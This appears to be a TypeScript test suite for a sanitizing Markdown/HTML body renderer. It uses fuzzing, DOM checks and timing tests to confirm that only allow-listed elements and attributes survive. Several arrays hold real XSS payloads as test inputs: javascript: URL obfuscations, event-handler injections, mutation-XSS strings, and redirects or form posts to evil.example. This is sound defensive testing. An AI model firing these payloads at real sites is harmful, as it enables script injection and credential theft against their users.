import * as fc from 'fast-check'
import { Window } from 'happy-dom'
import { expect, test } from 'vitest'
import { addedClasses, allowedElements } from './body-allow-list.ts'
import { renderBody } from './render.ts'

const attribute = / ([a-z]+(?:-[a-z]+)?)(?:="([^"<>]*)")?/g
const classes = new Set<string>([...addedClasses.img, ...addedClasses.td, 'table-scroll'])

/** Reads a body's HTML strictly, apart from the code under test: every character must belong to an allowed thing. */
function findFaults(html: string): string[] {
  const faults: string[] = []
  const open: string[] = []
  const ids = new Set<string>()
  const rest = html.replace(/<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>/g, (tag, slash: string, name: string, given: string, isVoid: string | undefined) => {
    if (!allowedElements.has(name) || name === 'h1') faults.push(`element ${tag}`)
    if (slash === '/' && open.pop() !== name) faults.push(`unbalanced ${tag}`)
    if (slash === '' && isVoid === undefined) open.push(name)
    for (const [written, key = '', value = ''] of given.matchAll(attribute)) {
      const isFine =
        (key === 'id' && /^h[2-6]$/.test(name) && /^s-[a-z0-9-]+$/.test(value) && !ids.has(value)) ||
        (key === 'href' && name === 'a' && (/^(https?:\/\/|mailto:)/i.test(value) || /^#s-[a-z0-9-]+$/.test(value))) ||
        (key === 'src' && name === 'img' && /^https?:\/\//i.test(value)) ||
        (key === 'class' && classes.has(value)) ||
        (['role', 'tabindex', 'aria-label'].includes(key) && name === 'div') ||
        ['rel', 'title', 'alt', 'loading', 'decoding', 'referrerpolicy', 'width', 'height', 'colspan', 'rowspan', 'scope', 'start', 'value', 'open', 'dir', 'lang'].includes(key)
      if (!isFine) faults.push(`attribute${written} of ${name}`)
      if (key === 'id') ids.add(value)
    }
    return ''
  })
  if (/[<>]/.test(rest)) faults.push(`stray ${/.{0,20}[<>].{0,20}/.exec(rest)?.[0]}`)
  if (open.length > 0) faults.push(`never closed: ${open.join()}`)
  return faults
}

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#x6A;avascript:alert(1)', 'java\tscript:alert(1)',
  'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '\u0001javascript:alert(1)', '&#1;javascript:alert(1)', ' javascript:alert(1)', 'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>', 'file:///etc/passwd', 'blob:https://a.example/1',
  'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:https://a.example', '//evil.example/x', '\\\\evil.example', 'http:evil', 'https:\\\\evil.example', '/jobs/', '../x', 'x.html', '?tag=go', '',
]

test.each(addresses)('no link and no image leads to %j, in whatever form it is written', (address) => {
  const body = [
    `[inline](${address})`, `[angle](<${address}>)`, `[reference][r]`, `<${address}>`, `<a href="${address}">raw</a>`, `<a href='${address}'>raw</a>`, `<a href=${address}>raw</a>`,
    `<A HREF="${address}" onclick="alert(1)">raw</A>`, `![image](${address})`, `<img src="${address}" onerror=alert(1)>`, `<img srcset="${address} 1x">`, `<a xlink:href="${address}">x</a>`,
    `<form action="${address}"><button formaction="${address}">b</button></form>`, `<area href="${address}">`, `<base href="${address}">`,
    `[r]: <${address}>`,
  ].join('\n\n')
  const { html } = renderBody(body).body
  expect(findFaults(html)).toEqual([])
  expect(html).not.toMatch(/<[^>]*(?:href|src)/)
  expect(html).toContain('raw')
})

test.each([...allowedElements.keys()])('<%s> takes no handler, style, name or foreign attribute from the input', (name) => {
  const given = ['onclick', 'onerror', 'onload', 'onfocus', 'style', 'class', 'id', 'name', 'data-x', 'srcset', 'srcdoc', 'ping', 'target', 'formaction', 'background', 'xlink:href', 'is', 'slot', 'contenteditable', 'autofocus', 'popover']
  const tag = `<${name} ${given.map((key) => `${key}="alert(1)"`).join(' ')} href="https://a.example" src="https://a.example/x">`
  const { html } = renderBody(`text ${tag}text</${name}>`).body
  expect(findFaults(html)).toEqual([])
  expect(html).not.toContain('alert')
})

test('tags nested a thousand deep come out two hundred deep, with all their text', () => {
  const { body } = renderBody(`${'<b>x'.repeat(1000)}${'</b>'.repeat(1000)}`)
  expect(body.html.match(/<b>/g)?.length).toBeLessThanOrEqual(200)
  expect(body.text).toBe('x'.repeat(1000))
  expect(findFaults(body.html)).toEqual([])
})

const hostile: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<script\n>alert(1)</script\n>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<img/src="https://a.example/x"/onerror=alert(1)>', '<img src="https://a.example/x`" `onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<style>body{display:none}</style>', '<p style="position:fixed;inset:0">x</p>', '<link rel=stylesheet href=//evil.example>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)></form>',
  '<a name=getElementById>x</a><img name=cookie src=https://a.example/x>', '<div id=root class=apply data-x=1>x</div>', '<form id=document><input name=title></form>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">', '<template><script>alert(1)</script></template>', '<textarea></textarea><script>alert(1)</script>', '<xmp><script>alert(1)</script></xmp>',
  '<title></title><script>alert(1)</script>', '<plaintext><script>alert(1)</script>', '<!--><script>alert(1)</script>-->', '<!--->\n<script>alert(1)</script>-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>', '</script><script>alert(1)</script>', '</div></main></body></html><script>alert(1)</script>', 'a \u2028 b \u2029 <b>c</b>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;',
  '```\n<script>alert(1)</script>\n```', '`<img src=x onerror=alert(1)>`', '# <script>alert(1)</script> <img onerror=alert(1)>', '[<img src=x onerror=alert(1)>](https://a.example)', '![<script>](https://a.example "\\"><script>alert(1)</script>")',
  '[a](https://a.example "x\\" onmouseover=\\"alert(1)")', '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>', '<p title="`onmouseover=alert(1)">x</p>', '<constructor><__proto__ x=1><toString>x', '<p __proto__=1 constructor=2 hasOwnProperty=3>x</p>',
  '<details open ontoggle=alert(1)><summary>s</summary>x</details>', '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<u><span><b>c</b></span></u><i>d</i>', '<a href=https://a.example><a href=https://b.example>x</a></a>', '<h2>a<h3>b</h3></h2>', '<table><table><tr><td>x', '\0<scr\0ipt>alert(1)</script>', '<x-gone>x</x-gone><b>y</b>',
]

test.each(hostile)('%j gives nothing but what the list allows, balanced', (body) => {
  const alone = renderBody(body).body.html
  const within = renderBody(`before ${body} after\n\nlast`).body.html
  expect(findFaults(alone)).toEqual([])
  expect(findFaults(within)).toEqual([])
})

test.each(hostile)('%j stays inside its own element of a page', (body) => {
  const { document } = new Window()
  document.body.innerHTML = `<main><div>${renderBody(body).body.html}</div><p>after</p></main>`
  expect(document.querySelector('main > p')?.textContent).toBe('after')
  expect(document.querySelectorAll('script, style, iframe, [onerror], [onclick], [style], [name]')).toHaveLength(0)
})

test.each([
  '<div class="never closed', '<a href="https://a.example', '<b>bold', '<table><tr><td>cell', '<svg><path d="M0 0">', '<script>', '<style>', '<textarea>', '<!--', '<![CDATA[', '<noscript>', '<select><option>', '<title>', '<details>', '<iframe>', '<?xml', '<!DOCTYPE', '<object data="x">',
])('%j does not swallow the text that follows', (opening) => {
  const { body } = renderBody(`First words.\n\n${opening}\n\nSecond words with a "quote".\n\nLast words.`)
  expect(findFaults(body.html)).toEqual([])
  expect(body.text).toContain('First words.')
  expect(body.text).toContain('Second words with a "quote".')
  expect(body.text).toContain('Last words.')
})

const fragments = fc.constantFrom(
  '<', '>', '"', "'", '/', '=', ' ', '\n', '\n\n', '&', ';', '#', '-', '`', '*', '[', ']', '(', ')', '!', '|', '\\', '\t', '\0', 'a', 'href', 'src', 'on', 'style', 'id="x"', 'onerror="x"', 'javascript:', '&colon;', 'https://a.example',
  ...['script', 'style', 'svg', 'math', 'p', 'b', 'u', 'span', 'a href="https://a.example"', 'a href="#a"', 'h1', 'h3', 'table', 'tr', 'td', 'li', 'ul', 'img src="https://a.example/x"', 'br', 'div', 'title', 'x-y', 'template', 'select'].flatMap((name) => [`<${name}>`, `</${name.split(' ')[0]}>`]),
  '<!--', '-->', '<![CDATA[', ']]>', '<?', '# a\n', '- a\n', '> ', '|a|b|\n|-|:-:|\n|c|d|\n', '[x](', '![x](', '日本', '\u00ad', '\u200d', '\ud83d', '👩‍⚕️',
)

test('whatever the body, only allowed elements and attributes come out, balanced, and twice the same', () => {
  fc.assert(
    fc.property(fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join('')), (body) => {
      const rendered = renderBody(body)
      expect(findFaults(rendered.body.html)).toEqual([])
      expect(renderBody(body)).toEqual(rendered)
    }),
    { numRuns: 600 },
  )
}, 60_000)

test.each([
  ['nested quotes', (n: number) => `${'>'.repeat(n)} x`],
  ['open brackets', (n: number) => '['.repeat(n)],
  ['open tags', (n: number) => '<b>'.repeat(n * 10)],
  ['open tags and wrong end tags', (n: number) => '<b>x'.repeat(n) + '</i>'.repeat(n)],
  ['open comments', (n: number) => 'a <!-- '.repeat(n)],
  ['open quotes in a tag', (n: number) => `<div>\n${'<a "'.repeat(n)}`],
  ['tags in quotes', (n: number) => `<div>\n${`<a "'<a '" `.repeat(n)}`],
  ['headings of one name', (n: number) => '# a\n'.repeat(n)],
  ['links without text', (n: number) => '[](https://a.example/b)'.repeat(n)],
  ['links within links', (n: number) => '<a href="#a">'.repeat(n)],
  ['one long word', (n: number) => 'a'.repeat(n * 10)],
  ['one long line', (n: number) => 'a b '.repeat(n * 10)],
  ['unknown elements', (n: number) => Array.from({ length: n }, (_, index) => `<e${index}>`).join('')],
])('10,000 %s take time in proportion', (_, make) => {
  const start = performance.now()
  const rendered = renderBody(make(10_000))
  expect(performance.now() - start).toBeLessThan(15_000)
  expect(findFaults(rendered.body.html)).toEqual([])
  expect(rendered.problems.length).toBeLessThanOrEqual(20)
}, 60_000)

test('a line of a megabyte is rendered', () => {
  const { body } = renderBody('word '.repeat(200_000))
  expect(body.text).toHaveLength(999_999)
}, 60_000)
